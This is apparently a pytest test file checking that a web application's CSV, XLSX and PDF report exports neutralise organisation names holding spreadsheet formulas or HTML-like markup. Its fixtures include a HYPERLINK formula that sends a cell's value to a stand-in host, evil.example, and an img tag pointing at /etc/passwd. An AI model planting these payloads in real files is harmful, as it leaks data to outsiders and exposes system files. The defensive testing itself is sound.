"""What an organisation's name can do to a report's CSV, XLSX and PDF (issue 11, items 2 and 3)."""

import base64
import csv
import io
import re
import zlib

import pytest
from openpyxl import load_workbook

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


@pytest.fixture
def as_manager(client, scene):
    client.force_login(scene.personas.manager)
    return client


def rename_acme(scene, name):
    scene.personas.acme.name = name
    scene.personas.acme.save()


def test_an_organisation_named_as_a_formula_is_plain_text_in_the_csv(as_manager, scene):
    rename_acme(scene, FORMULA)

    for url in (
        "/p/regional/reports/organisations.csv",
        "/api/programmes/regional/reports/organisations.csv",
    ):
        rows = list(csv.reader(io.StringIO(as_manager.get(url).content.decode())))
        labels = [row[0] for row in rows]
        assert "'" + FORMULA in labels, url
        assert FORMULA not in labels, url


def test_an_organisation_named_as_a_formula_is_a_text_cell_in_the_xlsx_and_numbers_stay_numbers(
    as_manager, scene
):
    rename_acme(scene, FORMULA)
    scene.regional.name = "+Regional Crossings"
    scene.regional.save()

    workbook = load_workbook(io.BytesIO(as_manager.get("/p/regional/reports/report.xlsx").content))

    cells = [row[0] for row in workbook["organisations"].iter_rows(min_row=3) if row[0].value]
    acme = next(cell for cell in cells if "HYPERLINK" in str(cell.value))
    assert (acme.value, acme.data_type) == ("'" + FORMULA, "s")
    about = {row[0]: row[1] for row in workbook["About"].iter_rows(min_row=2, values_only=True)}
    assert (workbook["About"]["A1"].value, about["Programme"]) == ("'+Regional Crossings",) * 2
    funnel = {row[0]: row[1] for row in workbook["funnel"].iter_rows(min_row=3, values_only=True) if row[0]}
    assert funnel["Applied"] == 21


def pdf_text(pdf: bytes) -> str:
    """The page streams of a PDF, inflated: the text drawn on the pages, with PDF's escapes."""
    streams = re.findall(rb"stream\r?\n(.*?)\s*endstream", pdf, re.S)
    inflated = []
    for stream in streams:
        stream = stream.strip()
        if stream.endswith(b"~>"):  # reportlab writes its streams in ASCII85, then deflated
            stream = base64.a85decode(stream[:-2])
        try:
            inflated.append(zlib.decompress(stream))
        except zlib.error:
            continue  # a font or an image, not a page's text
    return b"\n".join(inflated).decode("latin-1")


@pytest.mark.parametrize("name", ['<img src="/etc/passwd"/>', "<b>unclosed", "R&D <i>Labs</i>"])
def test_markup_in_an_organisation_name_is_printed_as_text_in_the_pdf(as_manager, scene, name):
    rename_acme(scene, name)

    response = as_manager.get("/p/regional/reports/organisation/acme/report.pdf")

    assert response.status_code == 200
    assert response.content.startswith(b"%PDF")
    assert f"{name} in Regional Crossings" in pdf_text(response.content)
    assert b"/Subtype /Image" not in response.content


def test_a_long_organisation_name_with_markup_is_printed_as_text_in_the_programme_pdf(as_manager, scene):
    name = '<img src="/etc/passwd"/> <b>unclosed and long enough to be wrapped in its cell'
    rename_acme(scene, name)

    response = as_manager.get("/p/regional/reports/report.pdf")

    assert response.status_code == 200
    # The name is wrapped in its narrow cell, even inside words: compare the letters drawn.
    drawn = "".join(re.findall(r"\(((?:[^()\\]|\\.)*)\) Tj", pdf_text(response.content)))
    assert name.replace(" ", "") in drawn.replace("\\", "").replace(" ", "")
    assert b"/Subtype /Image" not in response.content
